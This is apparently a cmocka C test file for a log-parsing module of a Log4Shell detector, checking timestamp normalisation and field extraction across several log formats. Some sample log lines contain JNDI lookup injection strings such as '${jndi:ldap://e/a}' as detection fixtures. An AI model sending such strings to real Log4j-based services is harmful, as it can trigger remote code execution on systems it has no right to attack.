/*
 * test_logmeta.c - the request a log line records (detect/logmeta.h):
 * times normalised to UTC (zones, fractions, local time without a zone,
 * impossible dates refused), the access-log request and the JSON keys.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "detect/logmeta.h"

static void parse(const char *line, struct logmeta *m)
{
    logmeta_parse((const uint8_t *)line, strlen(line), m);
}

static void utc_forms(void **state)
{
    (void)state;
    char out[32];
    assert_true(logmeta_utc("11/Dec/2021:19:00:01 +0900", out));
    assert_string_equal(out, "2021-12-11T10:00:01Z");
    assert_true(logmeta_utc("2021-12-11T10:00:00.5+01:00", out));
    assert_string_equal(out, "2021-12-11T09:00:00.500Z");
    assert_true(logmeta_utc("2021-12-11 10:00:00,123Z", out));
    assert_string_equal(out, "2021-12-11T10:00:00.123Z");
    assert_true(logmeta_utc("2021-12-11T23:30:00-07:00", out));
    assert_string_equal(out, "2021-12-12T06:30:00Z");
    /* no zone: local time (TZ) */
    setenv("TZ", "Asia/Tokyo", 1);
    tzset();
    assert_true(logmeta_utc("2021-12-12 10:00:00", out));
    assert_string_equal(out, "2021-12-12T01:00:00Z");
    setenv("TZ", "UTC", 1);
    tzset();
    assert_true(logmeta_utc("2021-12-12 10:00:00", out));
    assert_string_equal(out, "2021-12-12T10:00:00Z");
    /* not dates */
    assert_false(logmeta_utc("31/Feb/2021:10:00:01 +0000", out));
    assert_string_equal(out, "");
    assert_false(logmeta_utc("2021-13-01 10:00:00", out));
    assert_false(logmeta_utc("2021-12-11 25:00:00", out));
    assert_false(logmeta_utc("11/Foo/2021:10:00:01 +0000", out));
    assert_false(logmeta_utc("Dec 11 10:00:00", out));
    assert_false(logmeta_utc("", out));
}

static void access_log(void **state)
{
    (void)state;
    struct logmeta m;
    parse("203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] \"GET /a?q=${x} "
          "HTTP/1.1\" 200 512 \"http://ref/\" \"Mozilla \\\"5\\\" ${jndi:x}\"", &m);
    assert_string_equal(m.ip, "203.0.113.7");
    assert_string_equal(m.time, "11/Dec/2021:10:00:01 +0000");
    assert_string_equal(m.utc, "2021-12-11T10:00:01Z");
    assert_string_equal(m.method, "GET");
    assert_string_equal(m.url, "/a?q=${x}");
    assert_int_equal(m.status, 200);
    assert_string_equal(m.agent, "Mozilla \\\"5\\\" ${jndi:x}");
    /* common format: no agent; a status that is no status */
    parse("10.0.0.1 - - [11/Dec/2021:10:00:01 +0000] \"POST /x HTTP/2\" 2000 1",
          &m);
    assert_string_equal(m.method, "POST");
    assert_string_equal(m.url, "/x");
    assert_int_equal(m.status, 0);
    assert_string_equal(m.agent, "");
    /* a request line that is a payload: no method */
    parse("10.0.0.1 - - [11/Dec/2021:10:00:01 +0000] \"${jndi:ldap://e/a}\" 400 0",
          &m);
    assert_string_equal(m.method, "");
    assert_int_equal(m.status, 400);
}

static void layouts(void **state)
{
    (void)state;
    struct logmeta m;
    setenv("TZ", "UTC", 1);
    tzset();
    /* Log4j's default layout: fraction after a comma */
    parse("2021-12-12 10:00:00,123 WARN x", &m);
    assert_string_equal(m.time, "2021-12-12 10:00:00,123");
    assert_string_equal(m.utc, "2021-12-12T10:00:00.123Z");
    /* CSV: the comma ends the time when no digits follow */
    parse("2021-12-12 10:00:00,INFO,x", &m);
    assert_string_equal(m.time, "2021-12-12 10:00:00");
    /* a zone after a space */
    parse("2021-12-12 10:00:00 +0900 x", &m);
    assert_string_equal(m.utc, "2021-12-12T01:00:00Z");
    /* JSON: a number status, a host name as client */
    parse("{\"@timestamp\":\"2021-12-12T10:00:00Z\",\"remote_addr\":\"gw\","
          "\"request_method\":\"PUT\",\"request_uri\":\"/u\",\"status\":503,"
          "\"http_user_agent\":\"ua\"}", &m);
    assert_string_equal(m.utc, "2021-12-12T10:00:00Z");
    assert_string_equal(m.ip, "gw");
    assert_string_equal(m.method, "PUT");
    assert_string_equal(m.url, "/u");
    assert_int_equal(m.status, 503);
    assert_string_equal(m.agent, "ua");
    /* Apache error log */
    parse("[Sat Dec 11 10:00:00 2021] [error] [client 10.0.0.9] x", &m);
    assert_string_equal(m.ip, "10.0.0.9");
    /* nothing */
    parse("hello ${jndi:ldap://e/a}", &m);
    assert_string_equal(m.time, "");
    assert_string_equal(m.utc, "");
    assert_string_equal(m.ip, "");
    /* bounded: a huge agent is cut, NUL-terminated */
    char big[4096];
    int n = snprintf(big, sizeof(big), "1.2.3.4 - - [11/Dec/2021:10:00:01 "
                     "+0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"");
    memset(big + n, 'A', sizeof(big) - (size_t)n - 3);
    big[sizeof(big) - 3] = '"';
    big[sizeof(big) - 2] = 0;
    parse(big, &m);
    assert_int_equal(strlen(m.agent), sizeof(m.agent) - 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(utc_forms),
        cmocka_unit_test(access_log),
        cmocka_unit_test(layouts),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
